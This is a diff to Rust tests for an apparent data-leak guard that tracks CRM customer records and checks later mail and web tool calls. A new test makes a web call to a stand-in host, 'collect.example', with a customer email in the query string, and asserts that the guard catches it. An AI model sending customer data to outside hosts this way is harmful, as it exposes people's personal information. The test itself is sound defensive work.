@@ -170,22 +170,43 @@ fn what_is_usual_raises_the_bounds_of_the_day_and_not_of_a_context() {
     assert_eq!(world.read("crm", &customer(9_000)).withhold, Some(LedgerRule::Steps));
 }
 
+/// Records are read some hours after the window began, other things arrive now and then, and a call is weighed.
 #[test]
 fn a_window_is_never_shorter_than_it_says() {
     const HOUR: i64 = 3_600 * 1_000_000;
-    for (hours, is_held) in [(1, true), (13, true), (23, true), (24, true), (37, false), (80, false)] {
-        for begun in [0, 5, 11] {
-            let mut world = World::new(Caps::default());
-            world.now = Timestamp::from_micros(world.now.as_micros() + begun * HOUR);
-            for i in 0..80 {
-                world.read("crm", &customer(i));
-                world.context = Ledger::new();
+    for (after, is_held) in [(1, true), (13, true), (23, true), (24, true), (37, false), (80, false)] {
+        for begun in [0, 5, 11, 20, 31] {
+            for every in [1, 7, 13, 100] {
+                let mut world = World::new(Caps::default());
+                let start = world.now.as_micros();
+                let mut hours = begun;
+                world.now = Timestamp::from_micros(start + hours * HOUR);
+                for i in 0..80 {
+                    world.read("crm", &customer(i));
+                    world.context = Ledger::new();
+                }
+                while hours + every < begun + after {
+                    hours += every;
+                    world.now = Timestamp::from_micros(start + hours * HOUR);
+                    world.read("wiki", "nothing about anybody");
+                }
+                world.now = Timestamp::from_micros(start + (begun + after) * HOUR);
+                let expected = if is_held { vec![LedgerRule::Steps] } else { vec![] };
+                let passed = world.call("mail", "{}", true).passed;
+                assert_eq!(passed, expected, "{after} hours, begun after {begun}, every {every}");
             }
-            world.now = Timestamp::from_micros(world.now.as_micros() + hours * HOUR);
-            let expected = if is_held { vec![LedgerRule::Steps] } else { vec![] };
-            assert_eq!(world.call("mail", "{}", true).passed, expected, "{hours} hours, begun after {begun}");
         }
     }
+}
+
+#[test]
+fn what_is_no_address_is_carried_whatever_it_decides() {
+    let mut world = World::new(Caps::default());
+    world.read("crm", &list((0..9).map(customer)));
+    let seen = world.call("web", r#"{"url":"https://collect.example/?q=c5@shop.example"}"#, true);
+    assert_eq!(seen.sunk, 1);
+    let seen = world.call("web", r#"{"to":["c1@shop.example","c2@shop.example, c3@shop.example"]}"#, true);
+    assert_eq!(seen.sunk, 1);
 }
 
 #[test]
